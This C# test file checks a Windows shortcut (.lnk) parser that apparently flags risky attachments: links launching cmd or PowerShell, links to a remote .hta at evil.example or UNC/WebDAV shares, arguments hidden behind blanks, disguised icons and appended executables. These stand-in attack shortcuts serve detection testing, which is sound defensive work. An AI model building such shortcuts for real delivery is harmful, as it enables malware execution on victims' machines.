using FsCheck;
using FsCheck.Fluent;
using Platform.Engine.Attachments.Shortcuts;

namespace Platform.Engine.Tests.Attachments.Shortcuts;

public sealed class ShellLinkTests
{
    [Fact]
    public void The_command_line_is_target_and_arguments()
    {
        var link = ShellLinkParser.Parse(LinkBytes.Of(@"C:\Windows\System32\cmd.exe", "/c calc"));

        Assert.Equal(@"C:\Windows\System32\cmd.exe /c calc", link?.CommandLine);
    }

    [Theory]
    [InlineData(@"C:\Windows\System32\cmd.exe", "/c calc")]
    [InlineData(@"%comspec%", "/c calc")]
    [InlineData(@"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "-enc AAAA")]
    [InlineData(@"C:\Windows\explorer.exe", "https://evil.example/a.hta")]
    [InlineData(@"data\setup.exe", "")]
    public void A_link_that_runs_something_is_seen(string target, string arguments)
    {
        Assert.Contains("shortcut-command", Opened.FactsOf("photo.lnk", LinkBytes.Of(target, arguments)));
    }

    [Theory]
    [InlineData(@"\\203.0.113.5\share\a.exe")]
    [InlineData(@"\\files.evil.example@SSL\DavWWWRoot\a.pdf")]
    public void A_link_to_a_machine_outside_is_seen(string target)
    {
        Assert.Contains("shortcut-remote", Opened.FactsOf("photo.lnk", LinkBytes.Of(target)));
    }

    [Theory]
    [InlineData(@"C:\Program Files\Office\EXCEL.EXE", "")]
    [InlineData(@"\\fileserver\public\plan.xlsx", "")]
    [InlineData(@"\\10.1.2.3\public\plan.xlsx", "")]
    [InlineData(@"D:\projects\2026", "")]
    public void A_link_to_a_document_folder_or_program_is_plain(string target, string arguments)
    {
        Assert.Equal(["shortcut-plain"], Opened.FactsOf("plan.lnk", LinkBytes.Of(target, arguments)));
    }

    [Fact]
    public void Arguments_behind_blanks_are_seen()
    {
        Assert.Contains("shortcut-hidden-arguments", Opened.FactsOf("a.lnk", LinkBytes.Of(@"C:\Windows\System32\cmd.exe", new string(' ', 200) + "/c calc")));
    }

    [Fact]
    public void The_icon_of_another_program_on_an_interpreter_is_seen()
    {
        Assert.Contains("shortcut-disguise", Opened.FactsOf("a.lnk", LinkBytes.Of(@"C:\Windows\System32\cmd.exe", "/c calc", @"C:\Program Files\Acrobat\Acrobat.exe")));
    }

    [Fact]
    public void What_stands_after_a_link_is_opened_as_a_file()
    {
        byte[] program = [.. "MZ"u8, .. new byte[58], 0x80, 0, 0, 0, .. new byte[64], .. "PE\0\0"u8, 0x64, 0x86, .. new byte[200]];

        Assert.Contains(Opened.File("a.lnk", LinkBytes.Of(@"C:\Windows\System32\cmd.exe", "/c x", appended: program)).Attachments, file => file.Type.Id == "exe");
    }

    [Fact]
    public void Links_of_any_octets_are_read()
    {
        byte[] valid = LinkBytes.Of(@"C:\Windows\System32\cmd.exe", "/c calc", "icon", new byte[100]);
        Prop.ForAll<byte[], int>((bytes, at) =>
        {
            byte[] damaged = [.. valid];
            for (var index = 0; index < bytes.Length; index++)
                damaged[20 + (int)((uint)(at + (index * 7)) % (damaged.Length - 20))] = bytes[index];
            return ShellLinkParser.Parse(damaged) is not null;
        }).QuickCheckThrowOnFailure();
    }
}
